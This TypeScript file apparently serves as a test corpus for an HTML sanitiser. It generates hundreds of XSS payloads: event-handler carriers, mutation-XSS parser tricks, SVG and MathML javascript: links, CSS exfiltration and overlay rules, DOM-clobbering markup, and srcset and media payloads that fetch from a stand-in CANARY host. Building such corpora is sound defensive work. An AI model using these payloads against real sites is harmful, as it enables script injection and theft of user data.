// Bodies that an attacker may write: every handler, every attribute that asks for something, style, drawings, formulae,
// and markup that is one thing when it is read and another when it is read again.

const RUN = 'pwned()';

/** Handlers of HTML, SVG and animation, those that fire by themselves first. */
const handlers =
  'load error focus focusin blur toggle beforetoggle animationstart animationend animationiteration transitionrun ' +
  'transitionstart transitionend begin end repeat loadstart loadeddata loadedmetadata canplay canplaythrough play playing ' +
  'progress suspend stalled emptied durationchange timeupdate volumechange waiting seeking seeked ratechange cuechange ' +
  'pageshow pagehide hashchange popstate message messageerror storage online offline unload beforeunload resize scroll ' +
  'scrollend scrollsnapchange pointerrawupdate pointerover pointerenter mouseover mousemove wheel touchstart gotpointercapture ' +
  'click dblclick auxclick contextmenu mousedown mouseup keydown keyup keypress input change beforeinput invalid submit reset ' +
  'formdata search select selectstart selectionchange cut copy paste beforecopy drag dragstart drop slotchange ' +
  'securitypolicyviolation contentvisibilityautostatechange command close cancel fullscreenchange bounce start finish show';

const carriers: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x on${handler}=${RUN}>`,
  (handler) =>
    `<details open on${handler}='${RUN}' style="animation:x 1ms"><summary tabindex=0 autofocus>word</summary></details>`,
  (handler) =>
    `<svg/on${handler}="${RUN}"><animate on${handler}=${RUN} attributeName=x dur=1s /></svg><p on${handler}=${RUN}>word`,
];

/** Where an element asks for something by itself, or when it is used. */
const asking =
  'script@src link@href[rel=stylesheet] link@href[rel=icon] link@href[rel=preload][as=image] link@href[rel=modulepreload] ' +
  'link@href[rel=prefetch] link@href[rel=prerender] link@href[rel=manifest] link@href[rel=preconnect] link@href[rel=pingback] ' +
  'iframe@src frame@src embed@src object@data object@codebase applet@code applet@archive param@value video@poster ' +
  'audio@src[autoplay] video@src[autoplay] source@src track@src[default] input@src[type=image] button@formaction form@action ' +
  'body@background table@background td@background tr@background div@background bgsound@src layer@src ilayer@src ' +
  'blockquote@cite q@cite ins@cite del@cite head@profile html@manifest a@ping area@ping a@attributionsrc img@attributionsrc ' +
  'img@longdesc img@dynsrc img@lowsrc img@usemap svg@href image@href use@href feImage@href script@href a@xlink:href ' +
  'base@href portal@src fencedframe@src model@src menuitem@icon command@icon xml@src isindex@src[type=image] keygen@src ' +
  'video@data-src image@xlink:href mpath@href textPath@href tref@href cursor@href filter@href pattern@href linearGradient@href';
const asked = asking.split(' ').map((entry) => {
  const [, tag = '', name = '', rest = ''] = /^([\w:]+)@([\w:-]+)(.*)$/.exec(entry) ?? [];
  const more = [...rest.matchAll(/\[([^\]]+)\]/g)].map(([, attribute]) => attribute).join(' ');
  const inner = `<${tag} ${more} ${name}="//CANARY/x" onload=${RUN}>word</${tag}>`;
  return /[A-Z]|^(?:svg|image|use|mpath|tref|cursor|filter|pattern)$|xlink/.test(entry) ? `<svg>${inner}</svg>` : inner;
});

/** Style that asks, covers or reads the page. */
const styles = [
  'background:url(//CANARY/x)',
  'background-image:image-set("//CANARY/x" 1x)',
  'list-style:url(//CANARY/x)',
  'cursor:url(//CANARY/x),auto',
  'content:url(//CANARY/x)',
  'border-image:url(//CANARY/x) 1',
  'mask:url(//CANARY/x#m)',
  'filter:url(//CANARY/x#f)',
  'clip-path:url(//CANARY/x#c)',
  'shape-outside:url(//CANARY/x)',
  'offset-path:url(//CANARY/x#p)',
  'position:fixed;inset:0;z-index:2147483647',
  'behavior:url(//CANARY/x)',
  '-moz-binding:url(//CANARY/x)',
  'width:expression(pwned())',
  '--clinic-accent:url(//CANARY/x)',
  'animation:x 1ms',
  'display:none!important',
].flatMap((style) => [
  `<p style="${style}">word</p>`,
  `<style>*{${style}}</style><p>word</p>`,
  `<svg><style>*{${style}}</style><rect style="${style}"/></svg><p>word</p>`,
]);
const sheets = [
  `<style>@import "//CANARY/x.css";</style>word`,
  `<style>@font-face{font-family:x;src:url(//CANARY/x)}p{font-family:x}</style><p>word`,
  `<style>:host{background:url(//CANARY/x)}::slotted(*){display:none}</style>word`,
  `<style>input[value^=a]{background:url(//CANARY/a)}</style>word`,
  `<style><!--</style><img src=x onerror=${RUN}>-->`,
];

/** Markup that a parser moves, opens or closes elsewhere: what is safe once is not safe when it is written and read. */
const turned = [
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${RUN}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUN}>"></style></h1>`,
  `<svg></p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></style></annotation-xml>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}></style>`,
  `<noscript></noscript><a title="<noscript></noscript><img src=x onerror=${RUN}>">word</a>`,
  `<table><a><tr><td></a><img src=x onerror=${RUN}>`,
  `<select><iframe></select><img src=x onerror=${RUN}>`,
  `<select><template><style></select><img src=x onerror=${RUN}>`,
  `<option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<xmp><svg></xmp><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<plaintext></plaintext><img src=x onerror=${RUN}>`,
  `<p><svg><desc><p title="</desc></svg><img src=x onerror=${RUN}>">`,
  `<svg><title><a id="</title><img src=x onerror=${RUN}>">`,
  `<math><mi><mglyph><![CDATA[</mi></math><img src=x onerror=${RUN}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]>`,
  `<!--a--!><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!-- --><script>${RUN}</script --x>`,
  `<?php echo '<img src=x onerror=${RUN}>' ?>`,
  `<![if !IE]><img src=x onerror=${RUN}><![endif]>`,
  `</ <img src=x onerror=${RUN}>`,
  `<a/b="c"/onclick=${RUN}/href=//CANARY>word</a>`,
  `<img src="x\`><script>${RUN}</script>"\`>`,
  `<img/src/onerror=${RUN}>`,
  `<img\u000csrc=x\u000conerror=${RUN}>`,
  `<iMg SrC=x OnErRoR=${RUN}>`,
  `<img src=x:alert onerror\u000b=${RUN}>`,
  `<img\u0000src=x onerror=${RUN}>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<html xmlns:x="urn:x"><x:img src=x onerror=${RUN}>`,
  `${'<b>'.repeat(700)}<img src=x onerror=${RUN}>`,
  `${'<svg>'.repeat(300)}<img src=x onerror=${RUN}>`,
  `${'<table><td>'.repeat(200)}<img src=x onerror=${RUN}>`,
  `${'<template>'.repeat(200)}<img src=x onerror=${RUN}>`,
  `${'<p>word</p>'.repeat(5000)}<img src=x onerror=${RUN}>`,
  `<p ${'a=b '.repeat(20_000)} onclick=${RUN}>word`,
];

/** Drawings and formulae that run, ask or lead away. */
const foreign = [
  `<svg><a href="javascript:${RUN}"><text y=9>word</text></a></svg>`,
  `<svg><a><animate attributeName=href to="javascript:${RUN}" fill=freeze /><text y=9>word</text></a></svg>`,
  `<svg><a><set attributeName=xlink:href to="javascript:${RUN}"/><text y=9>word</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${RUN}"/><a id=x><text>word</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN}>#x"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script>//&#10;${RUN}</script></svg>`,
  `<svg><handler type="text/javascript" ev:event=load>${RUN}</handler></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<svg><switch><foreignObject requiredExtensions=x></foreignObject><g onload=${RUN}/></switch></svg>`,
  `<svg onload=${RUN} xmlns=http://www.w3.org/2000/svg viewBox="0 0 1 1"><path d=M0/></svg>`,
  `<svg><discard onbegin=${RUN}></svg>`,
  `<math href="javascript:${RUN}"><mtext>word</mtext></math>`,
  `<math><a xlink:href="javascript:${RUN}">word</a></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">word</maction></math>`,
  `<math><mglyph src="//CANARY/x" alt=x></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<math><semantics><annotation encoding="application/x"><img src=x onerror=${RUN}></annotation></semantics></math>`,
  `<math><merror><object data="//CANARY/x"></merror></math>`,
];

/** Names that stand in for what a page or a sanitiser asks for. */
const names =
  'attributes childNodes nodeName parentNode firstChild nextSibling localName namespaceURI ownerDocument getAttribute ' +
  'setAttribute querySelector body head forms cookie location defaultView getElementById createElement customElements ' +
  'pwned noted trustedTypes currentScript addEventListener';
const clobbers = names
  .split(' ')
  .flatMap((name) => [
    `<a id=${name} name=${name} href="/next">word</a><form id=${name} name=${name}><output id=${name}>word</output></form>`,
    `<img name=${name} id=${name} src=/x><object id=${name} name=${name} data="//CANARY/x"></object><p>word</p>`,
  ]);

/** Candidates of pictures and films, some bad, some worse. */
const candidates = [
  `<img srcset="javascript:${RUN} 1x">`,
  `<img srcset="data:image/svg+xml,<svg/onload=${RUN}> 2x, javascript:${RUN}">`,
  `<img src="/x.png" srcset="//user:secret@CANARY/x 1x, javascript:${RUN} 2x">`,
  `<picture><source srcset="javascript:${RUN}"><source srcset="blob:x 1x"><img src="data:text/html,x"></picture>`,
  `<img src="data:image/svg+xml;base64,${btoa(`<svg onload="${RUN}"/>`)}">`,
  `<img data-src="javascript:${RUN}" data-srcset="javascript:${RUN} 1x" src="data:text/html,x">`,
  `<img data-lazy-src="vbscript:${RUN}" data-lazy-srcset="file:///etc/passwd 1x">`,
  `<img src="//CANARY/x" width=1 height=1>`,
  `<img src="//CANARY/x" width=0 height=0>`,
  `<img src="//CANARY/x" width="1px" height="1px">`,
  `<video autoplay loop muted preload=auto src="//CANARY/x.mp4" onplay=${RUN}>word</video>`,
  `<video autoplay muted><source src="javascript:${RUN}"><source src="//CANARY/x.mp4" onerror=${RUN}></video>`,
  `<audio autoplay preload=auto src="//CANARY/x.mp3" onloadstart=${RUN}></audio>`,
  `<video poster="javascript:${RUN}" src="data:text/html,<script>parent.${RUN}</script>"></video>`,
  `<video src="/x.mp4"><track default kind=metadata src="//CANARY/x.vtt" oncuechange=${RUN}></video>`,
];

/** Each once. */
export const bodies: readonly string[] = [
  ...new Set([
    ...handlers.split(' ').flatMap((handler) => carriers.map((carrier) => carrier(handler))),
    ...asked,
    ...styles,
    ...sheets,
    ...turned,
    ...foreign,
    ...clobbers,
    ...candidates,
  ]),
];
